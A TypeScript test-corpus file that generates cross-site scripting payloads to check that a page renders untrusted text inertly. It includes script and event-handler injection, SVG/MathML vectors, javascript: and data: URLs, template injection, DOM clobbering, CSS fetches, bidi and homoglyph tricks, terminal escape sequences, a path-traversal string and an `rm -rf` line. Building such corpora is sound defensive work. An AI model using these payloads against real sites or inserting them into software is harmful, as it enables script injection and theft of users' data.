/**
 * Texts that try to be more than text: collected by ourselves from the ways in which pages have mistaken foreign words for
 * markup, script, style, addresses, templates or layout. Each calls for a canary at `hit`, opens a dialog, or sets
 * `window.pwned`; none may.
 */

/** `hit` is an address without quotes, brackets or spaces. */
export function xssCorpus(hit: string): readonly string[] {
  const js = `fetch('${hit}')`;
  return [
    ...markup(hit, js),
    ...handlers(hit, js),
    ...vectors(hit, js),
    ...addresses(hit, js),
    ...escapes(js),
    ...templates(js),
    ...styles(hit),
    ...clobbering(hit),
    ...unicode(js),
    ...controls(js),
    ...shapes(js),
  ];
}

function markup(hit: string, js: string): readonly string[] {
  return [
    `<script>${js}</script>`,
    `<script src=${hit}></script>`,
    `<SCRIPT SRC="${hit}"></SCRIPT>`,
    `<script type="module">import "${hit}"</script>`,
    `</script><script>${js}</script>`,
    `</pre></code></p></td></table><script>${js}</script>`,
    `</title><script>window.pwned=1</script>`,
    `</textarea><script>window.pwned=1</script>`,
    `--><script>window.pwned=1</script><!--`,
    `]]><script>window.pwned=1</script><![CDATA[`,
    `<scr<script>ipt>window.pwned=1</scr</script>ipt>`,
    `<script>/*</script><script>*/window.pwned=1//</script>`,
    `<noscript><p title="</noscript><img src=${hit}>">`,
    `<template><script>window.pwned=1</script></template>`,
    `<iframe src="${hit}"></iframe>`,
    `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
    `<object data="${hit}"></object>`,
    `<embed src="${hit}">`,
    `<link rel=stylesheet href="${hit}">`,
    `<link rel="prefetch" href="${hit}"><link rel="dns-prefetch" href="${hit}">`,
    `<meta http-equiv="refresh" content="0;url=${hit}">`,
    `<base href="${hit}/">`,
    `<form action="${hit}"><input autofocus onfocus="this.form.submit()"></form>`,
    `<portal src="${hit}"></portal><fencedframe src="${hit}"></fencedframe>`,
  ];
}

function handlers(hit: string, js: string): readonly string[] {
  return [
    `<img src=x onerror=${js}>`,
    `<img src=x onerror="alert(1)">`,
    `<img src="${hit}">`,
    `<img srcset="${hit} 1x" src=x>`,
    `<IMG """><SCRIPT>window.pwned=1</SCRIPT>">`,
    `<body onload=alert(document.cookie)>`,
    `<input onfocus=print() autofocus>`,
    `<select onfocus=confirm(1) autofocus>`,
    `<textarea onfocus=prompt(1) autofocus>`,
    `<video src=x onerror=window.pwned=1></video>`,
    `<audio src=x onerror=window.pwned=1>`,
    `<video poster="${hit}"></video><source src="${hit}">`,
    `<details open ontoggle=window.pwned=1>`,
    `<marquee onstart=window.pwned=1>`,
    `<div onpointerover="window.pwned=1" style="position:fixed;inset:0">x</div>`,
    `<a onmouseover=alert(1) href=#>hover</a>`,
    `<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>`,
    `<button popovertarget=x onbeforetoggle=alert(1)>p</button><div popover id=x>`,
    `" onmouseover="window.pwned=1" x="`,
    `' onfocus='window.pwned=1' autofocus='`,
    `\` onclick=window.pwned=1 \``,
    `x" style="animation-name:x" onanimationstart="window.pwned=1`,
    `"><img src=x onerror=window.pwned=1>`,
    `'><svg/onload=window.pwned=1>`,
  ];
}

function vectors(hit: string, js: string): readonly string[] {
  return [
    `<svg onload=${js}>`,
    `<svg><script>window.pwned=1</script></svg>`,
    `<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>`,
    `<svg><set attributeName=href to=javascript:window.pwned=1 /><a>x</a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>parent.pwned=1</script></svg>#x"/></svg>`,
    `<svg><foreignObject><iframe src="${hit}"></iframe></foreignObject></svg>`,
    `<svg><image href="${hit}"/></svg>`,
    `<svg><style>@import '${hit}';</style></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></table></mtext></math>`,
    `<math href="javascript:window.pwned=1">click</math>`,
    `<math><annotation-xml encoding="text/html"><img src=${hit}></annotation-xml></math>`,
    `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "${hit}">]><x>&e;</x>`,
  ];
}

function addresses(hit: string, js: string): readonly string[] {
  return [
    `javascript:${js}`,
    `JaVaScRiPt:alert(1)`,
    `java\tscript:alert(1)`,
    `javascript://%0aalert(1)`,
    `data:text/html,<script>parent.pwned=1</script>`,
    `data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==`,
    `vbscript:msgbox(1)`,
    `[click me](javascript:alert(1))`,
    `[a]: ${hit} "t"\n![picture][a]`,
    `![picture](${hit})`,
    `<${hit}>`,
    `[x](data:text/html,<script>alert(1)</script>)`,
    `//${hit.replace(/^https?:\/\//, "")}`,
    `#/session/../../x?<script>`,
    `#token=stolen-by-a-link`,
    `../../../../etc/passwd`,
    `%3Cscript%3Ewindow.pwned=1%3C/script%3E`,
  ];
}

function escapes(js: string): readonly string[] {
  return [
    `&lt;script&gt;window.pwned=1&lt;/script&gt;`,
    `&#60;script&#62;${js}&#60;/script&#62;`,
    `&#x3c;img src=x onerror=window.pwned=1&#x3e;`,
    `&amp;lt;b&amp;gt;`,
    `&NewLine;javascript&colon;alert(1)`,
    `\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e`,
    `\\x3cscript\\x3e`,
    `+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-`,
    `\\";window.pwned=1;//`,
    `'-alert(1)-'`,
    `</script>\u2028window.pwned=1\u2029//`,
  ];
}

function templates(js: string): readonly string[] {
  return [
    `{{constructor.constructor('window.pwned=1')()}}`,
    `{{7*7}}`,
    `{@html "<img src=x onerror=window.pwned=1>"}`,
    `{#if true}<script>window.pwned=1</script>{/if}`,
    `\${${js}}`,
    `#{7*7} <%= 7*7 %> {%raw%}`,
    `*{7*7} @(7*7) [[7*7]]`,
    `<div v-html="'<img src=x onerror=window.pwned=1>'"></div>`,
    `<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)></div>`,
    `__proto__`,
    `constructor`,
    `toString`,
  ];
}

function styles(hit: string): readonly string[] {
  return [
    `<style>@import "${hit}";</style>`,
    `<style>body{background:url(${hit})}</style>`,
    `<style>*{display:none!important}</style>`,
    `<p style="background:url(${hit})">`,
    `<p style="position:fixed;inset:0;z-index:9999;background:red">cover</p>`,
    `";}*{background:url(${hit})}`,
    `expression(alert(1)) -moz-binding:url(${hit})`,
    `<div class="visually-hidden skip">hidden</div>`,
  ];
}

function clobbering(hit: string): readonly string[] {
  return [
    `<img name=getElementById><img name=querySelector>`,
    `<form id=document><input name=cookie></form>`,
    `<a id=api><a id=api name=token href="${hit}">`,
    `<input name=attributes><input name=parentNode>`,
    `<div id=main tabindex=-1>another main</div>`,
    `<iframe name=trustedTypes srcdoc="x"></iframe>`,
  ];
}

/** What reads one way and means another. */
function unicode(js: string): readonly string[] {
  return [
    `\u202e>tpircs/<1=denwp.wodniw>tpircs<`,
    `access\u202e\u2066// admin only\u2069\u2066`,
    `rm -rf \u2067harmless\u2069`,
    `\u200bzero\u200cwidth\u200dtext\ufeff`,
    `\u061c\u200e\u200fmarks`,
    `\u{e0041}\u{e0042}tags that nobody sees\u{e007f}`,
    `a\u034f\u115f\u17b4\u3164b fillers`,
    `\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e`,
    `\u02bascript\u02ba \u2039img src=x onerror=alert(1)\u203a`,
    `\u017fcript <\u017fcript>${js}</\u017fcript>`,
    `pа\u0443pal (Cyrillic)`,
    `${"Z\u0351\u036f\u0348\u0349".repeat(200)}algo`,
    `\ud800 lone \udfff halves`,
    `\ufff9annotation\ufffahidden\ufffb`,
    `\u2028line\u2029separators`,
    `مرحبا <b>العالم</b> שלום`,
    `🏴\u{e0067}\u{e0062}\u{e007f} 👩‍👩‍👧 e\u0301`,
  ];
}

/** What terminals and parsers obey. */
function controls(js: string): readonly string[] {
  return [
    `\u001b[31mred\u001b[0m \u001b[2J\u001b[H`,
    `\u001b]8;;javascript:alert(1)\u0007link\u001b]8;;\u0007`,
    `\u001b]0;title\u0007 \u009b31m`,
    `nul\u0000<scr\u0000ipt>window.pwned=1</scr\u0000ipt>`,
    `back\b\b\b\bspace \u007f delete`,
    `line\rover\u0085written\u000bvertical\u000cform`,
    `data: {"type":"turn-end"}\n\nevent: x\ndata: ${js}\n\n`,
    `\u001b[?1049h\u001b]52;c;cHduZWQ=\u0007`,
  ];
}

/** What is only large. */
function shapes(js: string): readonly string[] {
  return [
    `<img src=x ${'a="b" '.repeat(2_000)} onerror=window.pwned=1>`,
    `<a href="${"A".repeat(20_000)}" onclick=window.pwned=1>`,
    `${"<div>".repeat(3_000)}<script>${js}</script>`,
    `${"(".repeat(5_000)}${")".repeat(5_000)}`,
    `${"a".repeat(30_000)}!`,
    `${" ".repeat(5_000)}<script>window.pwned=1</script>`,
    "\n".repeat(3_000),
    `NaN`,
    `null`,
    `{"__proto__":{"isAdmin":true}}`,
    `[object Object]`,
    ` `,
  ];
}

/** One line of a megabyte. */
export function megabyteLine(): string {
  return `<b>${"0123456789abcdef".repeat(65_536)}</b>`;
}
